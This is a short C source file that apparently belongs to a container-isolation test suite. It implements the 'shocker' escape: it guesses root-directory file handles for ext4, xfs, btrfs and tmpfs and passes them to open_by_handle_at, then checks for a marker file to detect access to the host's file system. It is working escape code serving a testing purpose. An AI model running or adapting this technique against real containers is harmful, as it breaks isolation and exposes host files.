/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * handles MARKER: file handles instead of paths ("shocker"): the root directory of the file system on which
 * the container lies, guessed, and MARKER from there.
 */
#include <stdint.h>

#include "attack.h"

static void guess(int mount, const char *where, const char *marker)
{
    struct {
        struct file_handle header;
        uint32_t words[8];
    } handle;
    static const struct {
        int type;
        unsigned bytes;
        uint32_t words[8];
    } guesses[] = {
        {1, 8, {2, 0}},          /* ext4: the root is inode 2 */
        {1, 8, {128, 0}},        /* xfs */
        {0x4d, 40, {0, 1, 256}}, /* btrfs */
        {1, 12, {1, 1, 0}},      /* tmpfs */
    };
    for (unsigned i = 0; i < sizeof guesses / sizeof guesses[0]; i++) {
        handle.header.handle_bytes = guesses[i].bytes > 32 ? 32 : guesses[i].bytes;
        handle.header.handle_type = guesses[i].type;
        memcpy(handle.words, guesses[i].words, sizeof handle.words);
        int fd = (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY);
        if (fd >= 0 && faccessat(fd, marker + 1, F_OK, 0) < 0) {
            close(fd); /* a directory, and not the host's root */
            errno = ENOENT;
            fd = -1;
        }
        if (fd < 0 && errno == EINVAL)
            errno = ESTALE;
        tried(fd, "handle %u of %s", i, where);
    }
}

int main(int count, char **words)
{
    static const char *const places[] = {"/", "/volume", "/etc/hosts", "/dev/shm"};
    if (count != 2)
        return 2;
    for (unsigned i = 0; i < sizeof places / sizeof places[0]; i++) {
        int mount = open(places[i], O_RDONLY | O_CLOEXEC);
        if (mount < 0)
            continue;
        guess(mount, places[i], words[1]);
        close(mount);
    }
    return 0;
}
